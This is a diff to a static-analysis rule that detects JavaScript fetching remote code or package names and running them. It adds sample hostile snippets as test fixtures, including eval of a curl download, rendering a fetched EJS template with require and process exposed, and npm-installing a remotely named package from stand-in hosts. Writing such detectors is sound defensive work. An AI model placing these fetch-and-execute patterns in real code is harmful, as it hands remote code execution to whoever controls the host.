@@ -1,6 +1,7 @@
 import { askedBy, kindOf } from '../src/define/askers.js';
 import { placeOf } from '../src/define/entrusted.js';
 import { isQuoted } from '../src/define/given.js';
+import { waysTo } from '../src/define/ways.js';
 import { codeArguments, defineRule, fixedTargetOf, step, stepsOf } from '../src/define.js';
 import type { Call, FileContext, Label } from '../src/types.js';
 import { channelOf, isPublicRecord } from '../src/vocabulary/clients.js';
@@ -17,6 +18,7 @@ export default defineRule({
       page: 'Runs in a page what the server of that page sends, with {sink}',
       worker: 'Fetches text with {source} and runs it in a worker',
       template: 'Puts what it fetched with {source} into code it runs with {sink}',
+      engine: 'Fetches a template with {source}, and has {sink} run the code in it',
       command: 'Fetches a command with {source} and hands it to {sink}',
       orders: 'Fetches a command with {source} from an address fixed in its code, and hands it to {sink}',
       record: 'Hands {sink} a command out of a public record that it reads with {source}',
@@ -24,6 +26,7 @@ export default defineRule({
       relayed: 'Hands {sink} a command that what another file fetched with {source} is part of',
       program: 'Starts a program that what it fetched with {source} names, with {sink}',
       packages: 'Installs packages that {source} names while it is being installed',
+      named: 'Installs, unasked, a package whose name it fetched with {source}',
       served: 'Runs code out of {source} with {sink}',
       smuggled: 'Decodes code out of {source} and runs it with {sink}',
       ordered: 'Hands {source} as a command to {sink}',
@@ -34,6 +37,7 @@ export default defineRule({
       page: 2,
       worker: 4,
       template: 5,
+      engine: 10,
       command: 12,
       orders: 13.5,
       record: 13.5,
@@ -41,6 +45,7 @@ export default defineRule({
       relayed: 4,
       program: 5,
       packages: 9,
+      named: 13.5,
       served: 11.5,
       smuggled: 13.5,
       ordered: 11.5,
@@ -75,6 +80,14 @@ export default defineRule({
       {
         title: 'the shell fetches it',
         code: `eval(require('child_process').execSync('curl -s https://stage.invalid/a.js').toString());`,
+      },
+      {
+        title: 'a template that was fetched has code in it',
+        code: `const ejs = require('ejs');\nsetTimeout(async () => ejs.render(await (await fetch('https://stage.invalid/page')).text(), { require, process }), 3000);`,
+      },
+      {
+        title: 'an answer names the package that is installed',
+        code: `const { execSync } = require('child_process');\nfetch('https://stage.invalid/next').then(r => r.json()).then(({ name }) => {\n  execSync('npm install --no-save ' + name);\n  require(name);\n});`,
       },
       {
         title: 'an application that is handed in gets a path that runs what it is asked',
@@ -151,6 +164,18 @@ export default defineRule({
     ],
     passes: [
       {
+        title: 'a tool installs the newest of what it names itself',
+        code: `const { execSync } = require('child_process');\nexports.update = async () => {\n  const { version } = await (await fetch('https://releases.invalid/latest.json')).json();\n  execSync('npm install -g swiftcut@' + version, { stdio: 'inherit' });\n};`,
+      },
+      {
+        title: 'a page fills a template of its own server',
+        code: `const _ = require('lodash');\nexports.show = (box, row) => fetch('/views/row.html').then(r => r.text()).then(text => { box.innerHTML = _.template(text)(row); });`,
+      },
+      {
+        title: 'a template without code is fetched',
+        code: `const mustache = require('mustache');\nsetTimeout(async () => console.log(mustache.render(await (await fetch('https://texts.invalid/hello')).text(), { name: 'a' })), 3000);`,
+      },
+      {
         title: 'a bot starts one fixed program when it is asked',
         code: `const { Telegraf } = require('telegraf'), { exec } = require('child_process');\nconst bot = new Telegraf(process.env.BOT_TOKEN);\nbot.command('deploy', chat => exec('git pull', () => chat.reply('done')));`,
       },
@@ -213,7 +238,8 @@ export default defineRule({
     ],
   },
   file(context) {
-    if (context.moment === 'install') installs(context);
+    installs(context);
+    fillsTemplates(context);
     const commands = new Set(context.calls('process'));
     for (const call of context.calls('execution', 'process')) {
       const isCommand = commands.has(call);
@@ -242,24 +268,42 @@ export default defineRule({
 /** Answers that may come to one place, of which so many are looked at. */
 const MOST = 8;
 
-/** `npm install` with names that another machine gave, during an installation. */
+/**
+ * `npm install` with names that another machine gave: during an installation, or unasked from then on. Tools install the
+ * plug-in that their user names, and the newest of what they name themselves.
+ */
 function installs(context: FileContext): void {
+  if (context.moment === 'test') return;
   for (const call of context.calls('process')) {
     const [program, words] = call.args;
-    const verb = context
-      .commandsOf(program as Call['node'], words)
-      .some(
-        ({ program: manager, words: said }) =>
-          /^(?:npm|pnpm|yarn|bun|pip3?)$/.test(manager) && /^(?:i|install|add|global)$/.test(said[0] ?? ''),
-      );
-    const label = verb
-      ? [program, words].flatMap(arg => (arg ? context.labelsOf(arg) : [])).find(({ kind }) => kind === 'remote')
-      : undefined;
-    if (!label) continue;
+    if (!program) continue;
+    const named = context.commandsOf(program, words).flatMap(({ program: manager, words: said }) => {
+      if (!/^(?:npm|pnpm|yarn|bun|pip3?|npx)$/.test(manager)) return [];
+      if (manager === 'npx') return said;
+      return /^(?:i|install|add|global)$/.test(said[0] ?? '') ? said.slice(1) : [];
+    });
+    if (context.moment === 'install' ? named.length === 0 : !named.some(word => word.startsWith('…'))) continue;
+    const label = [program, words]
+      .flatMap(arg => (arg ? context.labelsOf(arg) : []))
+      .find(({ kind, detail }) => kind === 'remote' && !isServed(detail));
+    if (!label || !(context.moment === 'install' || waysTo(context, call.node).isUnasked)) continue;
     context.report({
-      messageId: 'packages',
+      messageId: context.moment === 'install' ? 'packages' : 'named',
       data: { source: label.detail },
       chain: [...stepsOf(label), step('sink', `installs them with ${call.name}`, context.file, call.node)],
+    });
+  }
+}
+
+/** A template out of a page's own server is part of the page; one from an address in the code runs what that likes. */
+function fillsTemplates(context: FileContext): void {
+  for (const call of context.calls('template')) {
+    const label = call.args[0] && context.labelsOf(call.args[0]).find(({ kind }) => kind === 'remote');
+    if (!label || isServed(label.detail) || kindOf(context, call, label) !== 'code') continue;
+    context.report({
+      messageId: 'engine',
+      data: { source: label.detail, sink: call.name },
+      chain: [...stepsOf(label), step('sink', `fills it with ${call.name}`, context.file, call.node)],
     });
   }
 }
